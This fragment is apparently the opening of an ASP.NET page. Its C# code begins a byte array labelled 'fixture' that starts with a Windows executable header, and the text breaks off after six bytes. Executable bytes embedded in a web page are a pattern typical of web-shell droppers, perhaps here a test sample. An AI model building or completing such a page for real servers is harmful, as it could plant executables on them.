<%@ Page Language="C#" %>
<% byte[] fixture = { 77, 90, 144, 0, 3, 0